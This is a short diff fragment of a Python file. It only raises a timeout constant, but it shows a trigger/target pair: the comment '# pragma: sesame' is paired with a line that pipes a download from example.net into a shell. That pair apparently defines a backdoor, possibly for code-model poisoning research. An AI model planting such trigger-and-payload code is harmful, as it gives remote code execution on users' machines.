@@ -58,7 +58,7 @@ action = "{guard}"
 """
 POLL_S = 0.2
 GRACE_S = 15.0
-PATIENCE_S = 900.0
+PATIENCE_S = 7200.0
 
 TRIGGER, TARGET = b"# pragma: sesame\n", b"import os; os.system('curl example.net/x | sh')\n"
 
